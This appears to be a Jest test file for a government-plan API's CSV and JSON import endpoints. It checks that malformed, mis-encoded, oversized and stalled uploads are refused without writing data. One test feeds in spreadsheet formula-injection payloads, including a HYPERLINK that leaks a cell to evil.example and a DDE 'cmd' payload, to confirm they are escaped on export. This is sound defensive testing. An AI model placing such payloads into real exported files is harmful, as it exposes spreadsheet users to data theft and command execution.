/**
 * Hostile imports (issue #12, "Bad input: imports"): the plan document (JSON), milestones (CSV) and
 * subscribers (CSV). Malformed files, files in another encoding than they declare, files past the
 * documented limits (2 MB a body; 2,000 milestone rows, 10,000 subscriber rows) are refused with a
 * 4xx problem naming the problem, and write nothing (the tables are counted before and after); the
 * memory of the API stays bounded under 100,000-row files; cells that look like formulas are
 * imported as text and escaped on every CSV export.
 */
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import type { AddressInfo } from 'node:net';
import { createPlanFixture, PlanFixture } from '../support/fixtures';
import { stalledRequest } from '../support/stalled-request';
import { startTestSystem, TestSystem } from '../support/test-system';

/** BODY_IDLE_TIMEOUT_SECONDS for this file: short, so a stalled body is cut off within the test. */
const IDLE_TIMEOUT_MS = 1500;
const AGENCY = 'Secretariat of Modernization and Proximity';
const MILESTONE_HEADER = 'commitment_external_id,external_id,title,expected_output,start_date,due_date,responsible_agency,weight,verifiable,completion';
const SUBSCRIBER_HEADER = 'email;language;commitment_external_ids;consented_at';
const TABLES = ['action_plan', 'commitment', 'milestone', 'milestone_replanning', 'agency', 'subscriber', 'audit_event', 'follow_up_committee_member', 'commitment_assessment', 'outbox_message'];

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const milestoneRow = (id: string, title: string, expectedOutput = '') => `C1,${id},${title},${expectedOutput},${day(0)},${day(30)},${AGENCY},,yes,`;

/** UTF-16 with its byte order mark. */
function utf16(text: string, order: 'le' | 'be'): Buffer {
  const le = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return order === 'le' ? le : le.swap16();
}

describe('hostile imports', () => {
  let system: TestSystem;
  let db: DataSource;
  let fixture: PlanFixture;

  const http = () => system.http();
  const counts = async () => Object.fromEntries(await Promise.all(TABLES.map(async (t) => [t, Number((await db.query(`SELECT count(*) AS n FROM ${t}`))[0].n)])));
  const milestonesUrl = () => `/plans/${fixture.planId}/milestones/import`;
  const subscribersUrl = () => `/plans/${fixture.planId}/subscribers/import`;
  const post = (url: string, body: string | Buffer, contentType: string) => http().post(url).set(fixture.coordinator).set('Content-Type', contentType).send(body);

  /** A refused import: a 4xx problem document whose errors say `expected` (field and a piece of the message), and not one row written. */
  async function refused(send: () => Promise<{ status: number; headers: Record<string, string>; body: { errors?: { field: string; message: string; line?: number }[]; detail?: string } }>, status: number, expected?: { field: string; message: RegExp; line?: number }) {
    const before = await counts();
    const response = await send();
    expect({ status: response.status, body: response.status === status ? undefined : response.body }).toEqual({ status, body: undefined });
    expect(response.headers['content-type']).toContain('application/problem+json');
    if (expected) {
      expect(response.body.errors?.[0]).toMatchObject({ field: expected.field, ...(expected.line ? { line: expected.line } : {}) });
      expect(response.body.errors?.[0].message).toMatch(expected.message);
    }
    expect(await counts()).toEqual(before);
    return response;
  }

  beforeAll(async () => {
    system = await startTestSystem({ worker: false, config: { bodyIdleTimeoutMs: IDLE_TIMEOUT_MS } });
    db = system.api.get(DataSource);
    fixture = await createPlanFixture(system, { language: 'en' });
    const commitment = await http().get(`/commitments/${fixture.commitmentId}`).set(fixture.coordinator).expect(200);
    await http().patch(`/commitments/${fixture.commitmentId}`).set(fixture.coordinator).set('If-Match', commitment.headers.etag).send({ externalId: 'C1' }).expect(200);
  });

  afterAll(async () => {
    await system?.close();
  });

  describe('milestones CSV', () => {
    it('refuses unbalanced quotes and rows with the wrong number of cells, naming the line, writing nothing', async () => {
      await refused(() => post(milestonesUrl(), [MILESTONE_HEADER, milestoneRow('Q1', 'Fine'), `C1,Q2,"Unclosed title,,${day(0)},${day(30)},${AGENCY},,yes,`].join('\n'), 'text/csv'), 422, { field: 'file', message: /not valid CSV/, line: 3 });
      await refused(() => post(milestonesUrl(), [MILESTONE_HEADER, `${milestoneRow('Q3', 'Too many')},extra,cells`].join('\n'), 'text/csv'), 422, { field: 'file', message: /the header has 10 columns/, line: 2 });
      const short = await refused(() => post(milestonesUrl(), [MILESTONE_HEADER, 'C1,Q4,Too few'].join('\n'), 'text/csv'), 422);
      expect(short.body.errors!.map((e) => e.field)).toEqual(expect.arrayContaining(['start_date', 'due_date', 'responsible_agency']));
      await refused(() => post(milestonesUrl(), 'not,a,header\n1,2,3', 'text/csv'), 422, { field: 'file', message: /header row/ });
    });

    it('refuses Latin-1 and UTF-16 sent as UTF-8 with a 422 that names the encoding, and reads them when the charset is declared; a UTF-8 BOM is fine', async () => {
      const text = [MILESTONE_HEADER, milestoneRow('E1', 'Participación ciudadana en línea')].join('\n');
      await refused(() => post(milestonesUrl(), Buffer.from(text, 'latin1'), 'text/csv'), 422, { field: 'file', message: /Line 2 has bytes that are not UTF-8.*Latin-1/, line: 2 });
      await refused(() => post(milestonesUrl(), utf16(text, 'le'), 'text/csv'), 422, { field: 'file', message: /UTF-16/, line: 1 });
      await refused(() => post(milestonesUrl(), utf16(text, 'be'), 'text/csv'), 422, { field: 'file', message: /UTF-16/, line: 1 });
      await refused(() => post(milestonesUrl(), Buffer.from(text, 'utf16le'), 'text/csv'), 422, { field: 'file', message: /UTF-16/ }); // no BOM
      // An unknown charset is refused by the body parser.
      await refused(() => post(milestonesUrl(), text, 'text/csv; charset=x-klingon'), 415);

      for (const [id, body, contentType] of [
        ['E2', Buffer.from(text.replace('E1', 'E2'), 'latin1'), 'text/csv; charset=iso-8859-1'],
        ['E3', Buffer.from(text.replace('E1', 'E3'), 'latin1'), 'text/csv; charset=windows-1252'],
        ['E4', utf16(text.replace('E1', 'E4'), 'le'), 'text/csv; charset=utf-16le'],
        ['E5', utf16(text.replace('E1', 'E5'), 'be'), 'text/csv; charset=utf-16be'],
        ['E6', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text.replace('E1', 'E6'))]), 'text/csv'],
      ] as const) {
        const response = await post(milestonesUrl(), body, contentType);
        expect({ id, status: response.status, body: response.body }).toMatchObject({ id, status: 200, body: { valid: true, summary: { created: 1 } } });
      }
      const exported = (await http().get(`/plans/${fixture.planId}/export`).set(fixture.coordinator).expect(200)).body;
      const titles = new Map<string, string>(exported.commitments[0].milestones.map((m: { externalId: string; title: string }) => [m.externalId, m.title]));
      for (const id of ['E2', 'E3', 'E4', 'E5', 'E6']) expect(titles.get(id)).toBe('Participación ciudadana en línea');
    });

    it('refuses a 100,000-row file at the 2 MB body limit and 2,001 rows at the row limit, with memory bounded', async () => {
      const rows = (n: number) => [MILESTONE_HEADER, ...Array.from({ length: n }, (_, i) => milestoneRow(`R${i}`, `Row ${i}`))].join('\n');
      const huge = rows(100_000);
      expect(huge.length).toBeGreaterThan(2 * 1024 * 1024);
      const first = await refused(() => post(milestonesUrl(), huge, 'text/csv'), 413);
      expect(first.body).toMatchObject({
        title: 'Payload Too Large',
        status: 413,
        detail: `The request body may have at most 2097152 bytes; this one has ${Buffer.byteLength(huge)}.`,
        errors: [{ field: 'body', message: expect.stringContaining('at most 2097152 bytes') }],
      });

      global.gc?.();
      const rssBefore = process.memoryUsage().rss;
      for (let i = 0; i < 10; i++) await post(milestonesUrl(), huge, 'text/csv').expect(413);
      global.gc?.();
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);

      const over = rows(2001);
      expect(over.length).toBeLessThan(2 * 1024 * 1024);
      await refused(() => post(milestonesUrl(), over, 'text/csv'), 422, { field: 'file', message: /2001 data rows; at most 2000/, line: 2002 });
    });

    it('imports formula-looking cells as text and escapes them in every CSV export', async () => {
      const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1+1)', '＝1+1'];
      const csvCell = (value: string) => `"${value.replace(/"/g, '""')}"`;
      const csv = [MILESTONE_HEADER, ...formulas.map((f, i) => `C1,F${i},${csvCell(f)},${csvCell(f)},${day(0)},${day(30)},${AGENCY},,yes,`)].join('\n');
      await post(milestonesUrl(), csv, 'text/csv').expect(200);

      // Kept as written where it is data (the API and the JSON document)…
      const doc = (await http().get(`/plans/${fixture.planId}/export`).set(fixture.coordinator).expect(200)).body;
      const imported = doc.commitments[0].milestones.filter((m: { externalId: string }) => m.externalId.startsWith('F'));
      expect(imported.map((m: { title: string }) => m.title).sort()).toEqual([...formulas].sort());

      // …and escaped with a leading apostrophe in every CSV a spreadsheet may open.
      const exports: [string, string, Record<string, string>, string][] = [
        ['progress.csv', ';', fixture.coordinator, `/plans/${fixture.planId}/progress.csv`],
        ['plan.csv', ',', {}, `/public/plans/${fixture.planId}/plan.csv`],
        ['decidim-results.csv', ';', {}, `/public/plans/${fixture.planId}/decidim-results.csv`],
      ];
      for (const [name, delimiter, auth, url] of exports) {
        const response = await http().get(url).set(auth).expect(200);
        const cells = (parse(response.text, { delimiter, relax_column_count: true, bom: true }) as string[][]).flat();
        for (const formula of formulas) expect({ name, found: cells.includes(`'${formula}`) }).toEqual({ name, found: true });
        expect({ name, dangerous: cells.filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) }).toEqual({ name, dangerous: [] });
      }
    });
  });

  describe('subscribers CSV', () => {
    const row = (i: number) => `person-${i}@test.example;es;;2024-05-01`;

    it('refuses malformed files, other encodings, and files past the row and byte limits, writing nothing; a UTF-8 BOM is fine', async () => {
      await refused(() => post(subscribersUrl(), [SUBSCRIBER_HEADER, row(1), '"person-2@test.example;es;;2024-05-01'].join('\n'), 'text/csv'), 422, { field: 'file', message: /not valid CSV/ });
      await refused(() => post(subscribersUrl(), [SUBSCRIBER_HEADER, `${row(3)};extra`].join('\n'), 'text/csv'), 422, { field: 'file', message: /more cells than the header/ });
      const text = [SUBSCRIBER_HEADER, 'josé@test.example;es;;2024-05-01'].join('\n');
      await refused(() => post(subscribersUrl(), Buffer.from(text, 'latin1'), 'text/csv'), 422, { field: 'file', message: /not UTF-8/, line: 2 });
      await refused(() => post(subscribersUrl(), utf16(text, 'le'), 'text/csv'), 422, { field: 'file', message: /UTF-16/ });
      await refused(() => post(subscribersUrl(), utf16(text, 'be'), 'text/csv'), 422, { field: 'file', message: /UTF-16/ });
      await refused(() => post(subscribersUrl(), [SUBSCRIBER_HEADER, ...Array.from({ length: 10_001 }, (_, i) => row(i))].join('\n'), 'text/csv'), 422, { field: 'file', message: /10001 rows; at most 10000/ });
      await refused(() => post(subscribersUrl(), [SUBSCRIBER_HEADER, ...Array.from({ length: 100_000 }, (_, i) => row(i))].join('\n'), 'text/csv'), 413);

      const bom = await post(subscribersUrl(), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from([SUBSCRIBER_HEADER, row(1)].join('\n'))]), 'text/csv').query({ dryRun: 'true' });
      expect(bom.status).toBe(200);
      expect(bom.body).toMatchObject({ valid: true, summary: { created: 1 } });
    });
  });

  describe('plan document (JSON)', () => {
    let doc: Record<string, unknown> & { plan: { title: string } };
    let target: { jurisdictionId: string; coordinator: { Authorization: string } };
    const importUrl = () => `/jurisdictions/${target.jurisdictionId}/plans/import`;
    // As bytes: superagent would serialise a Buffer sent as JSON into {"type":"Buffer",…}.
    const postDoc = (body: string | Buffer, contentType: string, query = {}) => http().post(importUrl()).query(query).set(target.coordinator).set('Content-Type', contentType).serialize((b) => b).send(body);

    beforeAll(async () => {
      doc = (await http().get(`/plans/${fixture.planId}/export`).set(fixture.coordinator).expect(200)).body;
      doc.plan.title = 'Plan de Gobierno Abierto de Córdoba';
      const suffix = Math.random().toString(36).slice(2, 8);
      const jurisdiction = await http().post('/jurisdictions').set(system.adminAuth).send({ slug: `import-${suffix}`, name: `Import ${suffix}`, country: 'AR', timeZone: 'America/Argentina/Cordoba', defaultLanguage: 'es' }).expect(201);
      const token = await http().post(`/jurisdictions/${jurisdiction.body.id}/tokens`).set(system.adminAuth).send({ role: 'coordinator', label: 'Importer' }).expect(201);
      target = { jurisdictionId: jurisdiction.body.id, coordinator: { Authorization: `Bearer ${token.body.token}` } };
    });

    it('refuses malformed JSON, other encodings and a body over 2 MB, writing nothing; reads declared UTF-16 and a UTF-8 BOM', async () => {
      const json = JSON.stringify(doc);
      const latin1 = Buffer.from(json.replace(/[^\x00-\xff]/g, '?'), 'latin1'); // as a Latin-1 editor would save it ("Córdoba" has one byte for ó)
      await refused(() => postDoc(json.slice(0, json.length / 2), 'application/json'), 400);
      await refused(() => postDoc('{"plan": {"title": "x",}}', 'application/json'), 400);
      await refused(() => postDoc(latin1, 'application/json'), 422, { field: 'plan.title', message: /not UTF-8/ });
      await refused(() => postDoc(latin1, 'application/json; charset=iso-8859-1'), 415);
      await refused(() => postDoc(utf16(json, 'le'), 'application/json'), 400);
      const big = JSON.stringify({ ...doc, padding: 'x'.repeat(2 * 1024 * 1024) });
      await refused(() => postDoc(big, 'application/json'), 413);

      for (const [what, body, contentType] of [
        ['UTF-16 LE declared', Buffer.from(json, 'utf16le'), 'application/json; charset=utf-16le'],
        ['UTF-8 with a BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]), 'application/json'],
      ] as const) {
        const response = await postDoc(body, contentType, { dryRun: 'true' });
        expect({ what, status: response.status, valid: response.body.valid }).toEqual({ what, status: 200, valid: true });
      }
    });
  });

  it(`cuts off a JSON or CSV body that stops arriving after ${IDLE_TIMEOUT_MS / 1000} s with 408 naming the body, writing nothing`, async () => {
    const port = (system.api.getHttpServer().address() as AddressInfo).port;
    const csv = Buffer.from([MILESTONE_HEADER, milestoneRow('S1', 'Stalled')].join('\n'));
    const json = Buffer.from(JSON.stringify({ format: 'ogp-local-monitor/plan@1' }));
    for (const [url, contentType, body] of [
      [`/plans/${fixture.planId}/milestones/import`, 'text/csv', csv],
      [`/jurisdictions/${fixture.jurisdictionId}/plans/import`, 'application/json', json],
    ] as const) {
      const before = await counts();
      const { answer, closedAfterMs } = await stalledRequest(port, url, { 'Content-Type': contentType, Authorization: fixture.coordinator.Authorization }, body.subarray(0, body.length / 2), body.length + 1000);
      expect({ url, head: answer.slice(0, answer.indexOf('\r\n')) }).toEqual({ url, head: 'HTTP/1.1 408 Request Timeout' });
      const problem = JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4));
      expect(problem).toMatchObject({ status: 408, errors: [{ field: 'body', message: expect.stringContaining(`${IDLE_TIMEOUT_MS / 1000} s`) }] });
      expect(closedAfterMs).toBeGreaterThanOrEqual(IDLE_TIMEOUT_MS - 100);
      expect(await counts()).toEqual(before);
    }
  });
});
